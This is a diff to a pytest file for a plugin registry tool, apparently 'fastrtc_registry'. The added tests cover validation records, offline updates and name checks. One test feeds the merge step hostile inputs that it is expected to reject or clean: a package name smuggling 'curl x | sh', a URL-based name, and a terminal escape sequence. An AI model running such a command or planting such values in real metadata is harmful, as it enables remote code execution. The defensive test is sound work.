@@ -13,12 +13,12 @@ from typing import Any
 
 import pytest
 from _index_fixtures import index_files, pypi_url  # noqa: F401  (fixtures)
+from conftest import PluginEnv, make_env
 
+from fastrtc_registry._version import __version__
 from fastrtc_registry.catalog import ValidationRecord
-from fastrtc_registry.catalog.facts import found_plugins
+from fastrtc_registry.catalog.facts import found_plugins, record_from_report
 from fastrtc_registry.catalog.lint import lint_bytes
-from fastrtc_registry.index import EntryPointSpec, ProjectFacts
-from fastrtc_registry.names import canonicalize
 from fastrtc_registry.catalog.merge import (
     ENTRY_FIELDS,
     FoundPlugin,
@@ -26,6 +26,8 @@ from fastrtc_registry.catalog.merge import (
     dump_registry,
     merge_registry,
 )
+from fastrtc_registry.index import EntryPointSpec, ProjectFacts
+from fastrtc_registry.names import canonicalize
 
 REPO = Path(__file__).resolve().parent.parent
 
@@ -290,6 +292,7 @@ def test_update_check_flags_a_stale_file(tmp_path: Path, pypi_url: str) -> None:
 
 @pytest.mark.slow
 def test_update_records_a_real_validation_run(tmp_path: Path, pypi_url: str) -> None:  # noqa: F811
+    """From the index: the energy fixture really passed, and nothing else was validated."""
     path = tmp_path / "registry.json"
     path.write_text(dump_registry(merge_registry(_doc(CURATED)).doc))
     proc = _run_update(path, pypi_url, "--validate-only", "fastrtc-energy-vad", "--timeout", "300")
@@ -297,21 +300,91 @@ def test_update_records_a_real_validation_run(tmp_path: Path, pypi_url: str) -> 
     entries = {p["name"]: p for p in json.loads(path.read_text())["plugins"]}
     record = entries["energy"]["validation"]
     assert record["version"] == "1.0.0"
+    assert record["suite"] == __version__
     assert record["python"] == platform.python_version()
     assert record["date"] == dt.datetime.now(dt.timezone.utc).date().isoformat()
     from importlib.metadata import version
 
     assert record["fastrtc"] == version("fastrtc")
-    counts = [record[k] for k in ("passed", "failed", "warnings", "skipped", "errors")]
-    assert sum(counts) > 10 and record["passed"] > 0
-    expected = (
-        "failed"
-        if record["failed"] or record["errors"]
-        else "warning"
-        if record["warnings"]
-        else "passed"
-    )
-    assert record["status"] == expected
-    # Nothing else was validated, and humaware (needs Python >= 3.12) was never faked.
+    assert (record["status"], record["failed"], record["errors"]) == ("passed", 0, 0)
+    assert record["passed"] > 10
+    # Nothing else was validated, and humaware (not on this index) was never faked.
     assert all(p["validation"] is None for n, p in entries.items() if n != "energy")
-    assert "validated vad energy" in proc.stdout
+    assert "validated vad energy: passed" in proc.stdout
+
+
+ENERGY = {"name": "energy", "kind": "vad", "package": "fastrtc-energy-vad", "tags": ["vad-model"]}
+BAD = {"name": "bad-duration", "kind": "vad", "package": "fastrtc-bad-duration"}
+HUMAWARE = {**CURATED, "requires_python": ">=3.12"}
+
+
+@pytest.fixture(scope="module")
+def update_env(
+    tmp_path_factory: pytest.TempPathFactory, plugin_wheels: dict[str, Path]
+) -> PluginEnv:
+    """A venv with the energy fixture and one broken fixture installed."""
+    root = tmp_path_factory.mktemp("update") / "venv"
+    return make_env(root, [plugin_wheels["energy_vad"], plugin_wheels["bad_duration"]])
+
+
+@pytest.mark.slow
+def test_offline_update_records_real_runs_of_installed_plugins(
+    tmp_path: Path, update_env: PluginEnv
+) -> None:
+    """The recorded outcome of real runs: energy passed, the broken fixture failed."""
+    path = tmp_path / "registry.json"
+    path.write_text(dump_registry(merge_registry(_doc(ENERGY, BAD, HUMAWARE)).doc))
+    proc = update_env.run(
+        "registry", "update", "--offline", str(path), "--timeout", "300", timeout=900
+    )
+    assert proc.returncode == 0, proc.stderr
+    entries = {p["name"]: p for p in json.loads(path.read_text())["plugins"]}
+    energy = entries["energy"]["validation"]
+    assert (energy["status"], energy["failed"], energy["errors"]) == ("passed", 0, 0)
+    assert energy["version"] == "1.0.0" and energy["suite"] == __version__
+    assert energy["passed"] > 10
+    bad = entries["bad-duration"]["validation"]
+    assert bad["status"] == "failed" and bad["failed"] + bad["errors"] >= 1
+    assert bad["version"] == "0.1.0"
+    humaware = entries["humaware"]["validation"]
+    if sys.version_info < (3, 12):
+        assert humaware["status"] == "unsupported-python"
+        assert (humaware["version"], humaware["passed"], humaware["failed"]) == (None, 0, 0)
+        assert "requires Python >=3.12" in humaware["reason"]
+    else:
+        assert humaware is None
+        assert "not validated humaware-vad: not installed here" in proc.stderr
+    assert lint_bytes(path.read_bytes()).problems == ()
+    # A second run finds every record current: nothing is validated again.
+    again = update_env.run("registry", "update", "--offline", str(path), "--check", timeout=300)
+    assert again.returncode == 0, again.stderr
+    assert "up to date" in again.stdout and "validated" not in again.stdout
+
+
+def test_records_count_the_reports_statuses() -> None:
+    checks = [
+        {"status": "passed"},
+        {"status": "passed"},
+        {"status": "warning"},
+        {"status": "skipped", "reason": "needs-network"},
+        {"status": "skipped", "reason": "after VAD203"},
+    ]
+    record = record_from_report(checks, "1.0")
+    assert (record.passed, record.warnings, record.needs_network, record.skipped) == (2, 1, 1, 1)
+    assert record.status == "needs-network"
+    assert record_from_report([*checks, {"status": "error"}], "1.0").status == "failed"
+    assert record_from_report([{"status": "bogus"}], "1.0").errors == 1
+
+
+def test_merge_never_writes_names_that_fail_pep_508() -> None:
+    found = [
+        FoundPlugin("evil", "vad", "fastrtc-evil; curl x | sh", "1.0"),
+        FoundPlugin("x @ http://h/x.whl", "vad", "fastrtc-x", "1.0"),
+        FoundPlugin("ok", "vad", "fastrtc-ok", "1.0", summary="clean\x1b[2J me"),
+    ]
+    result = merge_registry(_doc(), found)
+    assert [p["package"] for p in result.doc["plugins"]] == ["fastrtc-ok"]
+    assert result.doc["plugins"][0]["summary"] == "clean[2J me"
+    assert len(result.skipped) == 2 and all("PEP 508" in line for line in result.skipped)
+    assert all("\x1b" not in line for line in result.skipped)
+    assert lint_bytes(dump_registry(result.doc).encode()).problems == ()
